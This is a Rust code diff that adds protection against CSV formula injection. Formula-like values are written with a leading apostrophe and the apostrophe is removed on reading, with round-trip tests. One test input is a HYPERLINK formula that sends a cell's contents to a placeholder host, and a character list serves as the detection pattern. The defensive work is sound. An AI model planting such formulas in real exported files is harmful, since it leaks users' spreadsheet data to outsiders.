@@ -9,12 +9,23 @@
 use std::borrow::Cow;
 use std::collections::BTreeMap;
 
-use crate::table::{Column, Role, Table, TableFault};
+use crate::table::{Column, Role, Table, TableFault, finite};
 
 /// More columns than anybody releases.
 pub const MOST_COLUMNS: usize = 1024;
 /// Bytes of one value.
 pub const LONGEST_VALUE: usize = 65_536;
+/// What a value is made text by: spreadsheets take it for that, and so does [`records`].
+const TEXT: char = '\'';
+
+/// What becomes of values that a spreadsheet takes for a formula.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Formulas {
+    /// An apostrophe before them makes them text.
+    Defused,
+    /// They are written as they are, for programs.
+    Raw,
+}
 
 /// Why a file of values could not be read.
 #[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
@@ -58,7 +69,7 @@ pub enum CsvFault {
 }
 
 /// The lines of a file, each with as many values as the first. They are separated by whichever of comma, semicolon and tab the first line
-/// has the most of.
+/// has the most of. An apostrophe that makes a formula text is taken away.
 pub fn records(bytes: &[u8]) -> Result<Vec<Vec<Cow<'_, str>>>, CsvFault> {
     let bytes = bytes.strip_prefix(b"\xef\xbb\xbf").unwrap_or(bytes);
     let text = std::str::from_utf8(bytes).map_err(|fault| {
@@ -121,16 +132,44 @@ pub fn table(
 }
 
 /// A line of a file that [`records`] reads.
-pub fn line<'a>(values: impl Iterator<Item = &'a str>) -> String {
+pub fn line<'a>(values: impl Iterator<Item = &'a str>, formulas: Formulas) -> String {
     let quoted = |value: &'a str| {
-        if value.contains([',', ';', '\t', '"', '\n', '\r']) {
-            format!("\"{}\"", value.replace('"', "\"\""))
+        let is_text = formulas == Formulas::Defused && is_formula(value);
+        let mark = if is_text { "'" } else { "" };
+        // A mark of byte order would be taken for the file's.
+        if value.contains([',', ';', '\t', '"', '\n', '\r', '\u{feff}']) {
+            format!("\"{mark}{}\"", value.replace('"', "\"\""))
         } else {
-            value.to_owned()
+            format!("{mark}{value}")
         }
     };
     let values: Vec<String> = values.map(quoted).collect();
     format!("{}\r\n", values.join(","))
+}
+
+/// Whether a spreadsheet that opens the file calculates with this value (OWASP, CSV Injection): what a device sent could have it start a
+/// program, or send other cells away. Numbers are what they are. Apostrophes before it do not count, so that reading takes away the one
+/// that writing put there, and no other.
+fn is_formula(value: &str) -> bool {
+    /// The last four are the first four as East Asian texts have them.
+    const SIGNS: [char; 12] = [
+        '=', '+', '-', '@', '\t', '\r', '\n', '\0', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}',
+    ];
+    let text = value.trim_start_matches(TEXT);
+    text.starts_with(SIGNS) && finite(text).is_none()
+}
+
+/// A value without the apostrophe that makes it text.
+fn plain(value: Cow<'_, str>) -> Cow<'_, str> {
+    let is_text = value.strip_prefix(TEXT).is_some_and(is_formula);
+    match value {
+        Cow::Borrowed(text) if is_text => Cow::Borrowed(text.get(1..).unwrap_or_default()),
+        Cow::Owned(mut text) if is_text => {
+            text.remove(0);
+            Cow::Owned(text)
+        }
+        value => value,
+    }
 }
 
 fn lines(bytes: &[u8]) -> usize {
@@ -169,6 +208,7 @@ fn record(text: &str, separator: char, line: usize) -> Result<(Vec<Cow<'_, str>>
             }
             (Cow::Borrowed(value), after)
         };
+        let value = plain(value);
         if value.len() > LONGEST_VALUE || record.len() >= MOST_COLUMNS {
             return Err(CsvFault::Large(line));
         }
@@ -228,8 +268,38 @@ mod tests {
     #[test]
     fn what_is_written_is_read_again() {
         let odd = ["a,b", "\"", "x\r\ny", "", "; ;", "t\tt", "plain"];
-        let text: String = [odd, odd].map(|row| line(row.into_iter())).concat();
-        assert_eq!(read(&text).unwrap(), [odd, odd]);
+        for formulas in [Formulas::Defused, Formulas::Raw] {
+            let text = [odd, odd].map(|row| line(row.into_iter(), formulas));
+            assert_eq!(read(&text.concat()).unwrap(), [odd, odd]);
+        }
+    }
+
+    #[test]
+    fn what_a_spreadsheet_takes_for_a_formula_is_written_as_text_and_read_as_it_was() {
+        let odd = [
+            "=HYPERLINK(\"http://x/?\"&A1)",
+            "+1+1",
+            "-2..5",
+            "@SUM(A1)",
+            "\t=1",
+            "\r=1",
+            "\u{ff1d}1",
+            "'=1",
+            "-inf",
+        ];
+        let text = line(odd.into_iter(), Formulas::Defused);
+        assert_eq!(
+            text,
+            "\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\",'+1+1,'-2..5,'@SUM(A1),\"'\t=1\",\"'\r=1\",'\u{ff1d}1,''=1,'-inf\r\n"
+        );
+        assert_eq!(read(&text).unwrap(), [odd]);
+        let raw = line(odd.into_iter(), Formulas::Raw);
+        assert!(raw.contains(",-2..5,@SUM(A1),"), "{raw}");
+        // A number is there to be calculated with; an apostrophe before anything else is a letter.
+        let plain = ["-2", "+2.5", "-1e3", ".5", "'tis", "'", "a=b", "'-5", ""];
+        let text = line(plain.into_iter(), Formulas::Defused);
+        assert_eq!(text, "-2,+2.5,-1e3,.5,'tis,',a=b,'-5,\r\n");
+        assert_eq!(read(&text).unwrap(), [plain]);
     }
 
     #[test]
